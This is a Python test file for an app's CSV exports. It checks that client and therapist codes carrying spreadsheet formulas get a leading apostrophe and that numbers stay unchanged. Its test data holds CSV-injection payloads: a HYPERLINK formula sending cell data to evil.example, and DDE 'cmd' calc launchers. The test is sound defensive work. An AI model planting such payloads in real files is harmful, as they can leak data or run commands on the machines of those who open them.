"""The CSV exports neutralise spreadsheet formulas (issue 21, item 2).

Codes reach the exports from several doors (the API, the history import, an admin naming a
therapist's code); whatever got stored, a cell a spreadsheet would run is written with a
leading apostrophe, and every number is written exactly as before.
"""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update

from bordin.storage import transaction
from bordin.storage.models import Client, User
from web.service_world import World

API = "/api/v1"
PAYLOADS = {
    "ta1": '=HYPERLINK("https://evil.example?x="&A1,"open")',
    "ta2": "+1+cmd|' /C calc'!A0",
    "ta3": "@SUM(1+1)*cmd|' /C calc'!A0",
}
THERAPIST_CODES = {"ta1": "-2+3+cmd|' /C calc'!A0", "ta2": "\t=1+1", "ta3": "\r=1+1"}


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("export", ["item-responses.csv", "session-scores.csv"])
def test_exports_neutralise_formulas_and_keep_numbers(world: World, export: str) -> None:
    admin = world.login("aa")
    before = _rows(admin.get(f"{API}/exports/{export}").text)
    with transaction(world.sessions_factory) as db:
        for name, payload in PAYLOADS.items():
            db.execute(update(Client).where(Client.id == world.clients[name]).values(code=payload))
            db.execute(
                update(User).where(User.id == world.users[name]).values(code=THERAPIST_CODES[name])
            )
    response = admin.get(f"{API}/exports/{export}")
    assert response.status_code == 200
    after = _rows(response.text)
    assert len(after) == len(before) > 0
    codes = {r["client_id"] for r in after}
    assert codes == {"'" + p for p in PAYLOADS.values()}
    assert {r["therapist_id"] for r in after} == {"'" + p for p in THERAPIST_CODES.values()}
    # A carriage return is quoted: no reader starts a row (and a formula) inside a cell.
    assert '"\'\r=1+1"' in response.text
    for row in after:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
    # Numbers are written exactly as before (rows in the same order: codes sort alike).
    key = {"'" + p: f"{n}-c1" for n, p in PAYLOADS.items()}
    numbers = [c for c in after[0] if c not in {"client_id", "therapist_id", "date"}]
    assert numbers
    old = sorted(tuple([r["client_id"]] + [r[c] for c in numbers]) for r in before)
    new = sorted(tuple([key[r["client_id"]]] + [r[c] for c in numbers]) for r in after)
    assert old == new
